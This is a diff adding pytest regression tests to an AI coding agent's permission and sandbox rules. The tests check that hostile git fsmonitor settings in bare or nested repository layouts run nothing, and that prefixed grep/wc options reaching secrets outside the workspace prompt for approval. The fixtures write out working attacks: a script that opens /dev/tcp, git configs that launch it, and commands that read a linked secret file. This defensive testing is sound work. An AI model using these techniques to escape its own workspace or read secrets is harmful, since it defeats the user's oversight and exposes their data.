@@ -8,17 +8,20 @@ import asyncio
 import contextlib
 import os
 import shutil
+import socket
 import subprocess
 import sys
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
-from myrm_tui.agent.permissions import Assessment, CommandRules, git_config_files
+from myrm_tui.agent.permissions import Assessment, CommandRules, git_config_files, git_hardening_env
 from myrm_tui.agent.proc import children_of
 from myrm_tui.agent.tools import ToolContext
 from myrm_tui.agent.tools.base import Approval
 from myrm_tui.agent.tools.files import FileEditTool
+from myrm_tui.agent.tools.shell import BashTool
 from myrm_tui.config import ConfigError, resolve
 from myrm_tui.context.vault import ArtifactVault
 from myrm_tui.testing.emulator import ProviderEmulator, Reply
@@ -426,3 +429,192 @@ def test_a_setting_beyond_sane_bounds_is_one_clear_line(key: str, value: object)
     line = str(err.value)
     assert "\n" not in line and key in line and "expected" in line
     assert " to " in line or "<=" in line  # it names the bound
+
+
+# --- issue 44: git runs a program, unasked, from files the workspace holds ----------------------------------
+
+
+@pytest.fixture
+def phone_home(tmp_path: Path) -> Iterator[tuple[Path, socket.socket]]:
+    """A marker outside the workspace and a loopback listener: what a hostile git setting would write and
+    reach (a connection waits in the listener's backlog until accepted: nothing is missed)."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.setblocking(False)
+    yield tmp_path / "PWN", server
+    server.close()
+
+
+def _hostile(workspace: Path, phone: tuple[Path, socket.socket]) -> str:
+    """A program that writes the marker (and PWN in its folder) and connects to the listener."""
+    marker, server = phone
+    prog = workspace / "tools" / "fsmonitor.sh"
+    prog.parent.mkdir(exist_ok=True)
+    prog.write_text(
+        f"#!/bin/bash\ntouch {marker} PWN\n(exec 3<>/dev/tcp/127.0.0.1/{server.getsockname()[1]})\n"
+    )
+    prog.chmod(0o755)
+    return str(prog)
+
+
+def _reached(server: socket.socket) -> bool:
+    try:
+        server.accept()[0].close()
+        return True
+    except BlockingIOError:
+        return False
+
+
+def _bare_layout(folder: Path, fsmonitor: str) -> dict[str, str]:
+    """A repository's files at the root of ``folder`` (no ``.git``) whose work tree is the folder itself."""
+    return {
+        "HEAD": "ref: refs/heads/main\n",
+        "config": f'[core]\n\trepositoryformatversion = 0\n\tworktree = .\n\tfsmonitor = "{fsmonitor}"\n',
+        "objects/info/packs": "\n",
+        "refs/heads/README": "refs\n",
+    }
+
+
+async def _git_status_unasked(workspace: Path, mode: str) -> str:
+    """``git status`` through the shell tool, which must run it without asking."""
+
+    async def never(tool: str, shown: str, assessment: Assessment) -> Approval:
+        raise AssertionError(f"asked: {shown}")
+
+    assert _allowed("git status", workspace)  # the permission rules let it run unasked: not the boundary
+    ctx = ToolContext(workspace=workspace, vault=ArtifactVault("s"), approver=never, sandbox=mode)
+    return (await BashTool().run({"command": "git status"}, ctx)).content
+
+
+MODES = ["read-only-auto", "off"]  # "off": the git settings alone hold; with the sandbox, both
+
+
+@needs_git
+@pytest.mark.parametrize("mode", MODES)
+async def test_a_workspace_laid_out_as_a_bare_repository_runs_nothing(
+    mode: str, workspace: Path, phone_home: tuple[Path, socket.socket]
+) -> None:
+    hook = _hostile(workspace, phone_home)
+    for name, text in _bare_layout(workspace, hook).items():
+        (workspace / name).parent.mkdir(parents=True, exist_ok=True)
+        (workspace / name).write_text(text)
+    shown = await _git_status_unasked(workspace, mode)
+    assert "cannot use bare repository" in shown  # git ran, and refused the layout nobody named
+    assert not phone_home[0].exists() and not (workspace / "PWN").exists()
+    assert not _reached(phone_home[1])
+    # the attack is real: plain `git status` there runs the program
+    _git(workspace, "status")
+    assert phone_home[0].exists() and _reached(phone_home[1])
+
+
+@needs_git
+@pytest.mark.parametrize("mode", MODES)
+async def test_a_nested_repository_with_fsmonitor_runs_nothing(
+    mode: str, workspace: Path, phone_home: tuple[Path, socket.socket]
+) -> None:
+    _hostile(workspace, phone_home)
+    (workspace / "tools").rename(workspace.parent / "tools")  # outside: named by sub's config only
+    hook = str(workspace.parent / "tools" / "fsmonitor.sh")
+    sub = workspace / "sub"
+    sub.mkdir()
+    ident = ("-c", "user.email=a@b", "-c", "user.name=a")
+    _git(sub, "init", "-q")
+    (sub / "a.txt").write_text("a\n")
+    _git(sub, "add", "a.txt")
+    _git(sub, *ident, "commit", "-qm", "a")
+    _git(workspace, "init", "-q")
+    _git(workspace, "add", "hello.py", "sub")  # sub becomes a gitlink: status looks inside it
+    _git(workspace, *ident, "commit", "-qm", "top")
+    with (sub / ".git" / "config").open("a") as f:
+        f.write(f'[core]\n\tfsmonitor = "{hook}"\n')
+    (sub / "a.txt").write_text("changed\n")
+    shown = await _git_status_unasked(workspace, mode)
+    assert "<returncode>0</returncode>" in shown and "On branch" in shown  # a working status, sub unentered
+    assert not phone_home[0].exists() and not (sub / "PWN").exists()
+    assert not _reached(phone_home[1])
+    _git(workspace, "status")  # the attack is real: status recurses into sub and runs its fsmonitor
+    assert phone_home[0].exists() and _reached(phone_home[1])
+
+
+@needs_git
+@pytest.mark.parametrize("mode", MODES)
+async def test_the_model_writing_a_bare_layout_with_edits_runs_nothing(
+    mode: str, workspace: Path, phone_home: tuple[Path, socket.socket]
+) -> None:
+    """With edits allowed (``allowed_commands = ["file_edit_tool"]``) the model writes the layout itself,
+    four edits none of which asks, then sends ``git status``."""
+    hook = _hostile(workspace, phone_home)
+
+    async def never(tool: str, shown: str, assessment: Assessment) -> Approval:
+        raise AssertionError(f"asked: {shown}")
+
+    ctx = ToolContext(
+        workspace=workspace,
+        vault=ArtifactVault("s"),
+        approver=never,
+        allowed_commands=CommandRules(["file_edit_tool"]),
+        sandbox=mode,
+    )
+    for name, text in _bare_layout(workspace, hook).items():
+        res = await FileEditTool().run({"path": name, "new_string": text, "create": True}, ctx)
+        assert not res.is_error, res.content
+    shown = await _git_status_unasked(workspace, mode)
+    assert "cannot use bare repository" in shown
+    assert not phone_home[0].exists() and not (workspace / "PWN").exists()
+    assert not _reached(phone_home[1])
+
+
+@needs_git
+def test_read_only_git_gets_every_program_setting_made_inert(workspace: Path) -> None:
+    _git(workspace, "init", "-q")
+    with (workspace / ".git" / "config").open("a") as f:
+        f.write('[diff "evil"]\n\ttextconv = x\n[filter "lfs2"]\n\tclean = y\n')
+    env = git_hardening_env(workspace)
+    pairs = {
+        env[f"GIT_CONFIG_KEY_{i}"]: env[f"GIT_CONFIG_VALUE_{i}"] for i in range(int(env["GIT_CONFIG_COUNT"]))
+    }
+    assert pairs["safe.bareRepository"] == "explicit" and pairs["core.fsmonitor"] == "false"
+    assert pairs["core.hooksPath"] == "/dev/null" and pairs["diff.external"] == ""
+    assert pairs["core.sshCommand"] == "false" and pairs["core.pager"] == "cat"
+    assert pairs["diff.evil.textconv"] == "" and pairs["filter.lfs2.clean"] == ""
+    assert pairs["filter.lfs2.process"] == "" and env["GIT_OPTIONAL_LOCKS"] == "0"
+
+
+# --- issue 44: long options by prefix, attached values --------------------------------------------------
+
+
+def test_grep_der_reads_home_through_a_link_and_asks(workspace: Path, linked_out: Path) -> None:
+    for command in ("grep --der SECRET .", "grep --deref SECRET .", "grep -rn --dereference-r=x SECRET ."):
+        assert not _allowed(command, workspace), command
+    out = subprocess.run(
+        ["grep", "--der", "SECRET", "."], cwd=workspace, capture_output=True, text=True, timeout=30
+    )
+    assert "hunter2" in out.stdout  # the attack is real: GNU grep takes the prefix
+
+
+def test_an_attached_pattern_file_outside_asks(workspace: Path, linked_out: Path) -> None:
+    (workspace / "LINK").symlink_to(linked_out / "secret.txt")
+    (workspace / "code.txt").write_text("xx SECRET=hunter2 yy\n")
+    for command in ("grep -o -fLINK code.txt", "grep -ofLINK code.txt", "grep --fi=LINK code.txt"):
+        assert not _allowed(command, workspace), command
+    assert _allowed("grep -o -fcode.txt code.txt", workspace)
+    out = subprocess.run(
+        ["grep", "-o", "-fLINK", "code.txt"], cwd=workspace, capture_output=True, text=True, timeout=30
+    )
+    assert out.stdout.strip() == "SECRET=hunter2"  # the attack is real: the patterns came from outside
+
+
+def test_wc_files0_by_prefix_asks(workspace: Path, linked_out: Path) -> None:
+    (workspace / "LIST").write_text(str(linked_out / "secret.txt") + "\0")
+    for command in ("wc --files0=LIST", "wc --files0-f LIST", "wc -l --f=LIST"):
+        assert not _allowed(command, workspace), command
+    out = subprocess.run(["wc", "--files0=LIST"], cwd=workspace, capture_output=True, text=True, timeout=30)
+    assert "secret.txt" in out.stdout  # the attack is real
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["git diff --ext", "git log --textc", "git show --ext-d HEAD", "git diff --out=x", "git log --outp x"],
+)
+def test_git_writers_by_prefix_ask(command: str, workspace: Path) -> None:
+    assert _allowed("git diff", workspace)
+    assert not _allowed(command, workspace)
